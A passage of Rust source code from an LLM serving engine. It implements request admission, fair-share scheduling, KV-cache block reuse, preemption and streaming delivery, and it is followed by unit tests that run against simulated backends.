                    // simply dropped.
                    for logits in rows {
                        seq.position += 1;
                        if blocks.append_token(seq.seq_id, seq.last_token).is_err() {
                            // Only reachable when a single sequence
                            // outgrows the whole budget: preemption has
                            // nobody left to evict for it.
                            let _ = seq
                                .events
                                .try_send(GenEvent::Error("KV budget exhausted".into()));
                            let _ = blocks.release(seq.seq_id);
                            stats.rejected.fetch_add(1, Ordering::Relaxed);
                            continue 'seqs;
                        }
                        let tok = seq.sampler.sample(&logits);
                        stats.charge_tenant(&seq.tenant, 1);
                        waiting.charge(&seq.tenant, 1);
                        match emit_token(&mut seq, tok, &stats, &first_token_us) {
                            Delivery::Disconnected if config.cancellation => {
                                retire_abandoned(seq, &mut blocks, &stats);
                                continue 'seqs;
                            }
                            Delivery::Disconnected => seq.events_dead = true,
                            Delivery::Stalled => {
                                if stalled_out(&seq, &config) {
                                    match config.stall_policy {
                                        StallPolicy::Disconnect => {
                                            stats
                                                .stall_disconnects
                                                .fetch_add(1, Ordering::Relaxed);
                                            retire_abandoned(seq, &mut blocks, &stats);
                                            continue 'seqs;
                                        }
                                        StallPolicy::Drop => {
                                            stats.tokens_dropped.fetch_add(
                                                seq.backlog.len() as u64,
                                                Ordering::Relaxed,
                                            );
                                            seq.backlog.clear();
                                            seq.stalled_since = None;
                                        }
                                    }
                                }
                            }
                            Delivery::Delivered => {}
                        }
                        if finished_after_token(&seq, tok, max_seq) {
                            retire(seq, tok, max_seq, &mut blocks, &stats);
                            continue 'seqs;
                        }
                    }
                    keep.push(seq);
                }
                running = keep;
            }
            Err(e) => {
                log::error!(target: "llm", "decode step failed: {e}");
                for seq in running.drain(..) {
                    let _ = seq.events.try_send(GenEvent::Error(format!("decode: {e}")));
                    let _ = blocks.release(seq.seq_id);
                }
            }
        }

        // ---- fairness / capacity gauges + busy-path housekeeping ----------
        stats
            .kv_blocks_used
            .store(blocks.used_blocks() as u64, Ordering::Relaxed);
        stats
            .fairness_ratio_milli
            .store((waiting.fairness_ratio() * 1e3) as u64, Ordering::Relaxed);
        if last_tenant_sweep.elapsed() >= TENANT_SWEEP_INTERVAL {
            // A saturated instance never reaches the idle branch: sweep
            // aged-out tenant bookkeeping here too.
            waiting.evict_idle();
            last_tenant_sweep = Instant::now();
        }
    }
}

/// Pull the next admissible request off the wait queues and reserve its KV
/// (shared prefix blocks attach by refcount). Preempted sequences resume
/// first; fresh requests release in fair-share (DRR) order. Returns the
/// armed prefill slot, or None when nothing can start right now.
#[allow(clippy::too_many_arguments)]
fn admit_next(
    waiting: &mut FairScheduler<WaitItem>,
    resume_q: &mut VecDeque<WaitItem>,
    blocks: &mut BlockManager,
    config: &EngineConfig,
    stats: &EngineStats,
    queue_wait_us: &Histogram,
    running_now: usize,
    next_seq_id: &mut u64,
) -> Option<ActivePrefill> {
    if running_now >= config.max_batch {
        return None;
    }
    loop {
        let from_resume = !resume_q.is_empty();
        let mut item = match resume_q.pop_front() {
            Some(item) => item,
            None => match waiting.pop() {
                Some((_tenant, item)) => item,
                None => return None,
            },
        };
        // Cancelled while queued: never prefill it.
        if config.cancellation && item.cancel.is_cancelled() {
            let generated = item.generated();
            stats.cancelled.fetch_add(1, Ordering::Relaxed);
            stats.tokens_saved.fetch_add(
                item.max_tokens.saturating_sub(generated) as u64,
                Ordering::Relaxed,
            );
            let _ = item.events.try_send(GenEvent::Done {
                reason: FinishReason::Disconnect,
                tokens: generated,
            });
            continue;
        }
        // Truncate over-long prompts from the left (keep the suffix —
        // the recent conversation matters most). Resumed sequences are
        // exempt: dropping tokens mid-generation would silently change
        // the context the already-streamed tokens were conditioned on.
        // Their history is bounded by max_seq; if a tiny kv_blocks
        // override genuinely cannot hold it, can_ever_admit rejects it
        // explicitly below instead of corrupting it silently.
        if item.resume.is_none() && item.tokens.len() > config.max_prompt {
            let start = item.tokens.len() - config.max_prompt;
            item.tokens.drain(..start);
        }
        if item.tokens.is_empty() {
            let _ = item.events.try_send(GenEvent::Error("empty prompt".into()));
            stats.rejected.fetch_add(1, Ordering::Relaxed);
            continue;
        }
        if !blocks.can_ever_admit(&item.tokens) {
            // Would not fit even into an idle manager: waiting is a hang,
            // not a queue.
            let _ = item
                .events
                .try_send(GenEvent::Error("prompt exceeds KV capacity".into()));
            stats.rejected.fetch_add(1, Ordering::Relaxed);
            continue;
        }
        let seq_id = *next_seq_id;
        // Single-scan admission: watermark check + prefix attach + block
        // reservation in one pass.
        let grant = match blocks.try_admit(seq_id, &item.tokens) {
            Ok(g) => g,
            Err(_) => {
                // No KV headroom right now: put it back where it came from
                // and stop admitting.
                if from_resume {
                    resume_q.push_front(item);
                } else {
                    let weight = config.fairness.weight(item.priority);
                    let tenant = item.tenant.clone();
                    let cost = item.cost;
                    waiting.restore(&tenant, weight, cost, item);
                }
                return None;
            }
        };
        *next_seq_id += 1;
        if grant.cached_tokens > 0 {
            stats.prefix_hits.fetch_add(1, Ordering::Relaxed);
            stats
                .prefill_tokens_saved
                .fetch_add(grant.cached_tokens as u64, Ordering::Relaxed);
        }
        stats
            .blocks_shared
            .fetch_add(grant.shared_blocks as u64, Ordering::Relaxed);
        if item.resume.is_some() {
            stats.tokens_recomputed.fetch_add(
                (item.tokens.len() - grant.cached_tokens) as u64,
                Ordering::Relaxed,
            );
        } else {
            // Queue wait from submit to KV grant, fresh requests only
            // (a resume's clock would double-count its first wait).
            let wait = item.enqueued.elapsed();
            queue_wait_us.record(wait.as_micros() as u64);
            if let Some(id) = item.trace {
                crate::util::trace::record(
                    id,
                    crate::util::trace::Hop::Engine,
                    crate::util::trace::Stage::QueueWait,
                    wait,
                );
            }
        }
        return Some(ActivePrefill {
            done: grant.cached_tokens,
            seq_id,
            item,
            admitted_at: Instant::now(),
            lane: None,
        });
    }
}

/// Bill a lane prefill's completed chunks since the last look: prompt
/// tokens are charged to the owning tenant as the work happens, exactly
/// like the inline chunked path, so lane prefills stay visible to the
/// fair scheduler in near-real time.
fn charge_lane_progress(
    ap: &mut ActivePrefill,
    stats: &EngineStats,
    waiting: &mut FairScheduler<WaitItem>,
) {
    let Some(slot) = &ap.lane else { return };
    let now = slot.progress.load(Ordering::Relaxed);
    if now > ap.done {
        let delta = (now - ap.done) as u64;
        stats.prefill_tokens.fetch_add(delta, Ordering::Relaxed);
        // Fresh prompts only — a resume's re-prefill is the engine's
        // preemption choice, not new tenant demand.
        if ap.item.resume.is_none() {
            stats.charge_tenant(&ap.item.tenant, delta);
            waiting.charge(&ap.item.tenant, delta);
        }
        ap.done = now;
    }
}

/// Promote a fully prefilled prompt into the running batch: restore (or
/// create) its stream state, sample the first token straight from the
/// prefill logits, and either retire it immediately or start decoding.
/// Shared by the inline chunked path and the prefill lanes.
#[allow(clippy::too_many_arguments)]
fn finish_prefill(
    ap: ActivePrefill,
    logits: Vec<f32>,
    state: SeqState,
    config: &EngineConfig,
    max_seq: usize,
    blocks: &mut BlockManager,
    running: &mut Vec<RunningSeq>,
    waiting: &mut FairScheduler<WaitItem>,
    stats: &EngineStats,
    first_token_us: &Histogram,
) {
    let ActivePrefill {
        item,
        seq_id,
        admitted_at,
        ..
    } = ap;
    let WaitItem {
        tokens,
        max_tokens,
        sampling,
        events,
        cancel,
        tenant,
        priority,
        trace,
        resume,
        ..
    } = item;
    // Prefill span: admission → logits ready (covers every interleaved
    // chunk). Fresh requests only — a resumed prefill is preemption
    // recompute, not client-visible prefill.
    if resume.is_none() {
        if let Some(id) = trace {
            crate::util::trace::record(
                id,
                crate::util::trace::Hop::Engine,
                crate::util::trace::Stage::Prefill,
                admitted_at.elapsed(),
            );
        }
    }
    let (
        sampler,
        generated,
        started_at,
        first_token_sent,
        backlog,
        stalled_since,
        events_dead,
    ) = match resume {
        Some(r) => (
            r.sampler,
            r.generated,
            r.started_at,
            r.first_token_sent,
            r.backlog,
            r.stalled_since,
            r.events_dead,
        ),
        None => (
            Sampler::new(sampling),
            0,
            admitted_at,
            false,
            VecDeque::new(),
            None,
            false,
        ),
    };
    let mut seq = RunningSeq {
        state,
        sampler,
        events,
        cancel,
        position: tokens.len() as i32,
        history: tokens,
        generated,
        max_tokens,
        seq_id,
        started_at,
        first_token_sent,
        last_token: 0,
        backlog,
        stalled_since,
        events_dead,
        tenant,
        priority,
        trace,
    };
    // Sample the first token straight from prefill logits.
    let tok = seq.sampler.sample(&logits);
    stats.charge_tenant(&seq.tenant, 1);
    waiting.charge(&seq.tenant, 1);
    match emit_token(&mut seq, tok, stats, first_token_us) {
        Delivery::Disconnected if config.cancellation => {
            retire_abandoned(seq, blocks, stats);
            return;
        }
        Delivery::Disconnected => seq.events_dead = true,
        Delivery::Stalled | Delivery::Delivered => {}
    }
    if finished_after_token(&seq, tok, max_seq) {
        retire(seq, tok, max_seq, blocks, stats);
    } else {
        running.push(seq);
    }
}

/// Park a running sequence back on the resume queue (front: resumes have
/// priority over fresh arrivals). Its blocks are refcount-released — full
/// ones retire into the cached pool, so the recompute usually prefills
/// only the uncached tail.
fn preempt(
    seq: RunningSeq,
    resume_q: &mut VecDeque<WaitItem>,
    blocks: &mut BlockManager,
    stats: &EngineStats,
) {
    stats.preemptions.fetch_add(1, Ordering::Relaxed);
    let _ = blocks.release(seq.seq_id);
    let cost = seq.max_tokens.saturating_sub(seq.generated).max(1) as u64;
    resume_q.push_front(WaitItem {
        tokens: seq.history,
        max_tokens: seq.max_tokens,
        // Unused on resume: the carried sampler continues instead.
        sampling: SamplingParams::default(),
        events: seq.events,
        cancel: seq.cancel,
        tenant: seq.tenant,
        priority: seq.priority,
        trace: seq.trace,
        enqueued: Instant::now(),
        cost,
        resume: Some(ResumeSeq {
            sampler: seq.sampler,
            generated: seq.generated,
            started_at: seq.started_at,
            first_token_sent: seq.first_token_sent,
            backlog: seq.backlog,
            stalled_since: seq.stalled_since,
            events_dead: seq.events_dead,
        }),
    });
}

/// Eviction for a request abandoned mid-prefill: free the KV (caching
/// only the blocks whose prefill chunks actually ran), count the work
/// not done.
fn abandon_prefill(ap: ActivePrefill, blocks: &mut BlockManager, stats: &EngineStats) {
    let generated = ap.item.generated();
    stats.tokens_saved.fetch_add(
        ap.item.max_tokens.saturating_sub(generated) as u64,
        Ordering::Relaxed,
    );
    stats.cancelled.fetch_add(1, Ordering::Relaxed);
    let _ = ap.item.events.try_send(GenEvent::Done {
        reason: FinishReason::Disconnect,
        tokens: generated,
    });
    let _ = blocks.release_partial(ap.seq_id, ap.done);
}

/// Outcome of pushing an event toward the consumer.
enum Delivery {
    Delivered,
    /// Channel full: the event joined the sequence's backlog.
    Stalled,
    /// Consumer dropped the receiver.
    Disconnected,
}

/// Non-blocking delivery: drain the backlog first (order), then the new
/// event; overflow queues. The engine loop never blocks on a client.
fn deliver(seq: &mut RunningSeq, event: GenEvent) -> Delivery {
    if seq.events_dead {
        return Delivery::Delivered; // discard: consumer known-gone
    }
    while let Some(front) = seq.backlog.pop_front() {
        match seq.events.try_send(front) {
            Ok(()) => {}
            Err(TrySendError::Full(front)) => {
                seq.backlog.push_front(front);
                break;
            }
            Err(TrySendError::Disconnected(_)) => return Delivery::Disconnected,
        }
    }
    if seq.backlog.is_empty() {
        match seq.events.try_send(event) {
            Ok(()) => {
                seq.stalled_since = None;
                return Delivery::Delivered;
            }
            Err(TrySendError::Full(event)) => seq.backlog.push_back(event),
            Err(TrySendError::Disconnected(_)) => return Delivery::Disconnected,
        }
    } else {
        seq.backlog.push_back(event);
    }
    if seq.stalled_since.is_none() {
        seq.stalled_since = Some(Instant::now());
    }
    Delivery::Stalled
}

/// Has this sequence's consumer stalled past the configured budget?
fn stalled_out(seq: &RunningSeq, config: &EngineConfig) -> bool {
    seq.backlog.len() > config.stall_buffer
        || seq
            .stalled_since
            .is_some_and(|since| since.elapsed() >= config.stall_timeout)
}

/// Emit a token event (never blocks; see [`deliver`]). Also appends the
/// token to the sequence history — the recompute source on preemption.
fn emit_token(
    seq: &mut RunningSeq,
    tok: i32,
    stats: &EngineStats,
    first_token_us: &Histogram,
) -> Delivery {
    seq.last_token = tok;
    if tok == tokenizer::EOS {
        return Delivery::Delivered; // handled by finished_after_token
    }
    seq.history.push(tok);
    seq.generated += 1;
    stats.tokens_generated.fetch_add(1, Ordering::Relaxed);
    if !seq.first_token_sent {
        seq.first_token_sent = true;
        let ttft = seq.started_at.elapsed();
        first_token_us.record(ttft.as_micros() as u64);
        if let Some(id) = seq.trace {
            crate::util::trace::record(
                id,
                crate::util::trace::Hop::Engine,
                crate::util::trace::Stage::FirstToken,
                ttft,
            );
        }
    }
    deliver(
        seq,
        GenEvent::Token {
            id: tok,
            bytes: tokenizer::decode_token(tok),
        },
    )
}

fn finished_after_token(seq: &RunningSeq, tok: i32, max_seq: usize) -> bool {
    tok == tokenizer::EOS
        || seq.generated >= seq.max_tokens
        || (seq.position as usize) >= max_seq - 1
}

fn retire(
    mut seq: RunningSeq,
    last_tok: i32,
    max_seq: usize,
    blocks: &mut BlockManager,
    stats: &EngineStats,
) {
    let reason = if last_tok == tokenizer::EOS {
        FinishReason::Stop
    } else if seq.generated >= seq.max_tokens || (seq.position as usize) >= max_seq - 1 {
        FinishReason::Length
    } else {
        FinishReason::Disconnect
    };
    let tokens = seq.generated;
    if let Delivery::Stalled = deliver(&mut seq, GenEvent::Done { reason, tokens }) {
        // A transiently slow (but healthy) consumer still gets its tail
        // tokens and the terminal event: hand the backlog — which ends
        // with the Done just queued — to a drainer so the engine loop
        // itself never blocks. The drainer exits as soon as the consumer
        // drains, hangs up, or times out (its receiver drops).
        let backlog = std::mem::take(&mut seq.backlog);
        let events = seq.events.clone();
        std::thread::Builder::new()
            .name("llm-retire-drain".into())
            .spawn(move || {
                for event in backlog {
                    if events.send(event).is_err() {
                        return;
                    }
                }
            })
            .ok();
    }
    let _ = blocks.release(seq.seq_id);
    stats.completed.fetch_add(1, Ordering::Relaxed);
}

/// Eviction for an abandoned stream: refcount-release the KV blocks
/// (shared prefix blocks stay with their siblings), count the decode
/// steps we did *not* spend finishing it.
fn retire_abandoned(mut seq: RunningSeq, blocks: &mut BlockManager, stats: &EngineStats) {
    let saved = seq.max_tokens.saturating_sub(seq.generated) as u64;
    stats.tokens_saved.fetch_add(saved, Ordering::Relaxed);
    stats.cancelled.fetch_add(1, Ordering::Relaxed);
    let tokens = seq.generated;
    // Best-effort terminal event for a half-open consumer.
    let _ = deliver(
        &mut seq,
        GenEvent::Done {
            reason: FinishReason::Disconnect,
            tokens,
        },
    );
    let _ = blocks.release(seq.seq_id);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::llm::backend::{PerfProfile, SimBackend};
    use std::sync::mpsc::sync_channel;

    fn fast_backend() -> Arc<SimBackend> {
        let mut b = SimBackend::new(PerfProfile::by_name("intel-neural-7b").unwrap());
        b.time_scale = 0.0; // no sleeping: unit tests
        Arc::new(b)
    }

    /// A backend that never EOSes: generation only ends via max_tokens or
    /// cancellation — the shape an abandoned long stream has in production.
    struct EndlessBackend {
        step: Duration,
    }

    impl EndlessBackend {
        fn one_hot() -> Vec<f32> {
            let mut v = vec![0.0; tokenizer::VOCAB];
            v[98] = 100.0; // byte 'a'
            v
        }
    }

    impl Backend for EndlessBackend {
        fn max_batch(&self) -> usize {
            8
        }
        fn max_seq(&self) -> usize {
            4096
        }
        fn vocab(&self) -> usize {
            tokenizer::VOCAB
        }
        fn prefill(&self, _tokens: &[i32], _cached_len: usize) -> anyhow::Result<(Vec<f32>, SeqState)> {
            Ok((Self::one_hot(), SeqState { kv: None, cursor: 0 }))
        }
        fn decode(
            &self,
            tokens: &[i32],
            _positions: &[i32],
            _seqs: &mut [&mut SeqState],
        ) -> anyhow::Result<Vec<Vec<f32>>> {
            if !self.step.is_zero() {
                std::thread::sleep(self.step);
            }
            Ok(tokens.iter().map(|_| Self::one_hot()).collect())
        }
    }

    fn request(
        max_tokens: usize,
        cap: usize,
    ) -> (GenRequest, Receiver<GenEvent>, CancelToken) {
        request_with_prompt("count", max_tokens, cap)
    }

    fn request_with_prompt(
        prompt: &str,
        max_tokens: usize,
        cap: usize,
    ) -> (GenRequest, Receiver<GenEvent>, CancelToken) {
        let (tx, rx) = sync_channel(cap);
        let cancel = CancelToken::new();
        (
            GenRequest {
                prompt_tokens: tokenizer::encode(prompt),
                max_tokens,
                sampling: SamplingParams::default(),
                events: tx,
                cancel: cancel.clone(),
                tenant: "test".into(),
                priority: Priority::default(),
                trace: None,
            },
            rx,
            cancel,
        )
    }

    fn wait_until(deadline_ms: u64, mut cond: impl FnMut() -> bool) -> bool {
        let deadline = Instant::now() + Duration::from_millis(deadline_ms);
        while Instant::now() < deadline {
            if cond() {
                return true;
            }
            std::thread::sleep(Duration::from_millis(5));
        }
        cond()
    }

    /// Drain a stream to its Done event; panics on Error events.
    fn drain(rx: &Receiver<GenEvent>) -> (usize, FinishReason) {
        let mut tokens = 0usize;
        loop {
            match rx.recv_timeout(Duration::from_secs(10)).unwrap() {
                GenEvent::Token { .. } => tokens += 1,
                GenEvent::Done { reason, tokens: t } => return (t.max(tokens), reason),
                GenEvent::Error(e) => panic!("unexpected error: {e}"),
            }
        }
    }

    #[test]
    fn cancel_token_evicts_within_a_step_and_frees_kv() {
        let backend = Arc::new(EndlessBackend {
            step: Duration::from_millis(5),
        });
        // Tiny KV budget: barely one long sequence fits, so reuse after
        // the cancel proves the blocks came back.
        let config = EngineConfig {
            kv_blocks: 8,
            kv_block_size: 16,
            ..EngineConfig::for_backend(backend.as_ref())
        };
        let engine = Engine::start(backend, config);

        let (req, rx, cancel) = request(1000, 1024);
        assert!(engine.submit(req));
        // Wait for the stream to start, then hang up.
        let first = rx.recv_timeout(Duration::from_secs(5)).unwrap();
        assert!(matches!(first, GenEvent::Token { .. }));
        cancel.cancel();
        assert!(
            wait_until(5000, || engine.stats.cancelled.load(Ordering::Relaxed) == 1),
            "cancelled sequence not evicted"
        );
        assert_eq!(engine.stats.running.load(Ordering::Relaxed), 0);
        assert!(
            engine.stats.tokens_saved.load(Ordering::Relaxed) > 900,
            "most of max_tokens should be saved: {}",
            engine.stats.tokens_saved.load(Ordering::Relaxed)
        );

        // KV blocks are reusable: a fresh request (which needs the whole
        // tiny budget) completes.
        let (req, rx, _cancel) = request(8, 1024);
        assert!(engine.submit(req));
        let done = loop {
            match rx.recv_timeout(Duration::from_secs(5)).unwrap() {
                GenEvent::Done { reason, .. } => break reason,
                GenEvent::Token { .. } => {}
                GenEvent::Error(e) => panic!("unexpected error: {e}"),
            }
        };
        assert!(matches!(done, FinishReason::Stop | FinishReason::Length));
        engine.stop();
    }

    #[test]
    fn queued_cancelled_request_is_never_prefilled() {
        let backend = fast_backend();
        let config = EngineConfig::for_backend(backend.as_ref());
        let engine = Engine::start(backend, config);
        let (req, rx, cancel) = request(50, 8);
        cancel.cancel(); // cancelled before submission even lands
        assert!(engine.submit(req));
        let event = rx.recv_timeout(Duration::from_secs(5)).unwrap();
        assert_eq!(
            event,
            GenEvent::Done {
                reason: FinishReason::Disconnect,
                tokens: 0
            }
        );
        assert_eq!(engine.stats.cancelled.load(Ordering::Relaxed), 1);
        assert_eq!(engine.stats.tokens_saved.load(Ordering::Relaxed), 50);
        engine.stop();
    }

    #[test]
    fn receiver_hangup_evicts_sequence() {
        let backend = Arc::new(EndlessBackend {
            step: Duration::from_millis(2),
        });
        let config = EngineConfig::for_backend(backend.as_ref());
        let engine = Engine::start(backend, config);
        let (req, rx, _cancel) = request(1000, 4);
        assert!(engine.submit(req));
        let _ = rx.recv_timeout(Duration::from_secs(5)).unwrap();
        drop(rx); // client disconnect as seen by the serving layer
        assert!(
            wait_until(5000, || engine.stats.cancelled.load(Ordering::Relaxed) == 1),
            "hangup not detected"
        );
        assert_eq!(engine.stats.running.load(Ordering::Relaxed), 0);
        engine.stop();
    }

    #[test]
    fn stall_policy_disconnect_severs_only_the_slow_stream() {
        let backend = fast_backend();
        let config = EngineConfig {
            stall_policy: StallPolicy::Disconnect,
            stall_buffer: 4,
            stall_timeout: Duration::from_secs(60), // backlog-triggered
            ..EngineConfig::for_backend(backend.as_ref())
        };
        let engine = Engine::start(backend, config);
        // Slow consumer: tiny channel, never read.
        let (slow_req, slow_rx, _c1) = request(1000, 1);
        // Healthy consumer: ample channel.
        let (ok_req, ok_rx, _c2) = request(12, 1024);
        assert!(engine.submit(slow_req));
        assert!(engine.submit(ok_req));

        // The healthy stream completes in full.
        let mut tokens = 0;
        let reason = loop {
            match ok_rx.recv_timeout(Duration::from_secs(5)).unwrap() {
                GenEvent::Token { .. } => tokens += 1,
                GenEvent::Done { reason, .. } => break reason,
                GenEvent::Error(e) => panic!("unexpected error: {e}"),
            }
        };
        assert!(matches!(reason, FinishReason::Stop | FinishReason::Length));
        assert!(tokens > 0);

        // The stalled stream gets severed by policy, freeing its slot.
        assert!(
            wait_until(5000, || engine
                .stats
                .stall_disconnects
                .load(Ordering::Relaxed)
                == 1),
            "stall policy never applied"
        );
        assert_eq!(engine.stats.running.load(Ordering::Relaxed), 0);
        drop(slow_rx);
        engine.stop();
    }

    #[test]
    fn stall_policy_drop_discards_backlog_but_finishes() {
        let backend = fast_backend();
        let config = EngineConfig {
            stall_policy: StallPolicy::Drop,
            stall_buffer: 2,
            stall_timeout: Duration::from_secs(60),
            ..EngineConfig::for_backend(backend.as_ref())
        };
        let engine = Engine::start(backend, config);
        let (req, rx, _cancel) = request(1000, 1);
        assert!(engine.submit(req));
        // Don't read: the backlog overflows and gets dropped, repeatedly,
        // until the canned script ends — the sequence still completes.
        assert!(
            wait_until(5000, || engine.stats.tokens_dropped.load(Ordering::Relaxed) > 0),
            "no tokens dropped"
        );
        assert!(
            wait_until(5000, || engine.stats.completed.load(Ordering::Relaxed) == 1),
            "dropped stream did not complete"
        );
        assert_eq!(engine.stats.stall_disconnects.load(Ordering::Relaxed), 0);
        drop(rx);
        engine.stop();
    }

    #[test]
    fn cancellation_off_decodes_to_completion_after_hangup() {
        let backend = fast_backend();
        let config = EngineConfig {
            cancellation: false,
            ..EngineConfig::for_backend(backend.as_ref())
        };
        let engine = Engine::start(backend, config);
        let (req, rx, cancel) = request(1000, 4);
        assert!(engine.submit(req));
        let _ = rx.recv_timeout(Duration::from_secs(5)).unwrap();
        drop(rx);
        cancel.cancel();
        // The ablation keeps decoding: the sequence retires normally (the
        // canned script EOSes), nothing is counted as cancelled.
        assert!(
            wait_until(5000, || engine.stats.completed.load(Ordering::Relaxed) == 1),
            "sequence should run to completion with cancellation off"
        );
        assert_eq!(engine.stats.cancelled.load(Ordering::Relaxed), 0);
        assert_eq!(engine.stats.tokens_saved.load(Ordering::Relaxed), 0);
        engine.stop();
    }

    #[test]
    fn shared_prefix_skips_prefill_work() {
        let backend = fast_backend();
        let config = EngineConfig::for_backend(backend.as_ref());
        let engine = Engine::start(backend, config);
        // A system prompt long enough for several full 16-token blocks.
        let prompt = "system: you are a terse counting assistant, reply \
                      with digits only.\nuser: count";

        let (req, rx, _c) = request_with_prompt(prompt, 64, 1024);
        assert!(engine.submit(req));
        let (_, reason) = drain(&rx);
        assert!(matches!(reason, FinishReason::Stop | FinishReason::Length));
        assert_eq!(engine.stats.prefix_hits.load(Ordering::Relaxed), 0);
        let cold_prefill = engine.stats.prefill_tokens.load(Ordering::Relaxed);

        // Same prompt again: the finished sequence's blocks are in the
        // cached pool — the second admission reuses them.
        let (req, rx, _c) = request_with_prompt(prompt, 64, 1024);
        assert!(engine.submit(req));
        let (_, reason) = drain(&rx);
        assert!(matches!(reason, FinishReason::Stop | FinishReason::Length));
        assert_eq!(engine.stats.prefix_hits.load(Ordering::Relaxed), 1);
        let saved = engine.stats.prefill_tokens_saved.load(Ordering::Relaxed);
        assert!(saved >= 64, "expected ≥4 shared blocks, saved {saved}");
        assert!(engine.stats.blocks_shared.load(Ordering::Relaxed) >= 4);
        let warm_prefill =
            engine.stats.prefill_tokens.load(Ordering::Relaxed) - cold_prefill;
        assert!(
            warm_prefill < cold_prefill,
            "warm prefill {warm_prefill} not cheaper than cold {cold_prefill}"
        );
        engine.stop();
    }

    #[test]
    fn prefix_cache_off_never_shares() {
        let backend = fast_backend();
        let config = EngineConfig::for_backend_tuned(
            backend.as_ref(),
            &EngineTuning {
                prefix_cache: false,
                ..EngineTuning::default()
            },
        );
        let engine = Engine::start(backend, config);
        let prompt = "system: the same long-ish system preamble as before.\nuser: go";
        for _ in 0..2 {
            let (req, rx, _c) = request_with_prompt(prompt, 8, 1024);
            assert!(engine.submit(req));
            drain(&rx);
        }
        assert_eq!(engine.stats.prefix_hits.load(Ordering::Relaxed), 0);
        assert_eq!(engine.stats.prefill_tokens_saved.load(Ordering::Relaxed), 0);
        engine.stop();
    }

    #[test]
    fn kv_pressure_preempts_and_recomputes_instead_of_erroring() {
        let backend = Arc::new(EndlessBackend {
            step: Duration::from_millis(1),
        });
        // Budget fits one growing sequence comfortably, two only until
        // they grow — with no admission headroom, so pressure is certain.
        let config = EngineConfig {
            kv_blocks: 6,
            kv_block_size: 16,
            growth_watermark: 0,
            ..EngineConfig::for_backend(backend.as_ref())
        };
        let engine = Engine::start(backend, config);
        let (req_a, rx_a, _ca) = request(48, 1024);
        let (req_b, rx_b, _cb) = request(48, 1024);
        assert!(engine.submit(req_a));
        assert!(engine.submit(req_b));
        let (tokens_a, reason_a) = drain(&rx_a);
        let (tokens_b, reason_b) = drain(&rx_b);
        assert_eq!(tokens_a, 48);
        assert_eq!(tokens_b, 48);
        assert!(matches!(reason_a, FinishReason::Length));
        assert!(matches!(reason_b, FinishReason::Length));
        assert!(
            engine.stats.preemptions.load(Ordering::Relaxed) >= 1,
            "the old engine would have emitted 'KV budget exhausted' here"
        );
        assert!(engine.stats.tokens_recomputed.load(Ordering::Relaxed) > 0);
        assert_eq!(engine.stats.rejected.load(Ordering::Relaxed), 0);
        assert_eq!(engine.stats.completed.load(Ordering::Relaxed), 2);
        engine.stop();
    }

    #[test]
    fn chunked_prefill_still_generates_correctly() {
        let backend = fast_backend();
        let config = EngineConfig {
            prefill_chunk: 8,
            ..EngineConfig::for_backend(backend.as_ref())
        };
        let engine = Engine::start(backend, config);
        let long_prompt = "x".repeat(100); // ~101 tokens → 13 chunks
        let (req, rx, _c) = request_with_prompt(&long_prompt, 64, 1024);
        assert!(engine.submit(req));
        let mut text = Vec::new();
        let reason = loop {
            match rx.recv_timeout(Duration::from_secs(5)).unwrap() {
                GenEvent::Token { bytes, .. } => text.extend(bytes),
                GenEvent::Done { reason, .. } => break reason,
                GenEvent::Error(e) => panic!("unexpected error: {e}"),
            }
        };
        assert_eq!(reason, FinishReason::Stop);
        assert_eq!(String::from_utf8_lossy(&text), "1 2 3 4 5 6 7 8 9 10");
        // Every prompt token went through prefill exactly once.
        assert_eq!(
            engine.stats.prefill_tokens.load(Ordering::Relaxed),
            101,
            "BOS + 100 bytes"
        );
        engine.stop();
    }

    #[test]
    fn abandoning_one_shared_prefix_sibling_keeps_the_other() {
        let backend = Arc::new(EndlessBackend {
            step: Duration::from_millis(2),
        });
        let config = EngineConfig::for_backend(backend.as_ref());
        let engine = Engine::start(backend, config);
        let prompt = "system: shared preamble shared preamble shared preamble.\nuser: go";
        let (req_a, rx_a, cancel_a) = request_with_prompt(prompt, 1000, 1024);
        let (req_b, rx_b, _cb) = request_with_prompt(prompt, 20, 1024);
        assert!(engine.submit(req_a));
        assert!(engine.submit(req_b));
        // A streams first; once B is admitted it shares A's live blocks.
        let first = rx_a.recv_timeout(Duration::from_secs(5)).unwrap();
        assert!(matches!(first, GenEvent::Token { .. }));
        assert!(
            wait_until(5000, || engine.stats.blocks_shared.load(Ordering::Relaxed) >= 1),
            "siblings never shared blocks"
        );
        cancel_a.cancel();
        assert!(
            wait_until(5000, || engine.stats.cancelled.load(Ordering::Relaxed) == 1),
            "abandoned sibling not evicted"
        );
        // B — which references the shared blocks — still runs to its cap.
        let (tokens_b, reason_b) = drain(&rx_b);
        assert_eq!(tokens_b, 20);
        assert_eq!(reason_b, FinishReason::Length);
        assert_eq!(engine.stats.completed.load(Ordering::Relaxed), 1);
        drop(rx_a);
        engine.stop();
    }

    #[test]
    fn idle_engine_stops_promptly_via_channel_wake() {
        let backend = fast_backend();
        let engine = Engine::start(backend.clone(), EngineConfig::for_backend(backend.as_ref()));
        // Let the loop reach its idle recv.
        std::thread::sleep(Duration::from_millis(100));
        let t0 = Instant::now();
        engine.stop();
        assert!(
            t0.elapsed() < Duration::from_secs(2),
            "stop() waited out the fallback timeout instead of being woken"
        );
    }

    /// Run one "count" request and return (text, decode steps, accepted
    /// draft tokens) — the speculation correctness triple.
    fn run_counting(engine: &Arc<Engine>) -> (String, u64, u64) {
        let (req, rx, _c) = request(64, 1024);
        assert!(engine.submit(req));
        let mut text = Vec::new();
        let reason = loop {
            match rx.recv_timeout(Duration::from_secs(5)).unwrap() {
                GenEvent::Token { bytes, .. } => text.extend(bytes),
                GenEvent::Done { reason, .. } => break reason,
                GenEvent::Error(e) => panic!("unexpected error: {e}"),
            }
        };
        assert_eq!(reason, FinishReason::Stop);
        (
            String::from_utf8_lossy(&text).into_owned(),
            engine.stats.decode_steps.load(Ordering::Relaxed),
            engine.stats.spec_accepted_tokens.load(Ordering::Relaxed),
        )
    }

    #[test]
    fn speculative_greedy_output_is_token_identical_to_plain() {
        let run = |enabled: bool| {
            let backend = fast_backend();
            let tuning = EngineTuning {
                speculative: SpeculativeConfig {
                    enabled,
                    ..SpeculativeConfig::default()
                },
                ..EngineTuning::default()
            };
            let config = EngineConfig::for_backend_tuned(backend.as_ref(), &tuning);
            let engine = Engine::start(backend, config);
            let out = run_counting(&engine);
            engine.stop();
            out
        };
        let (plain, plain_steps, _) = run(false);
        let (spec, spec_steps, accepted) = run(true);
        assert_eq!(plain, "1 2 3 4 5 6 7 8 9 10");
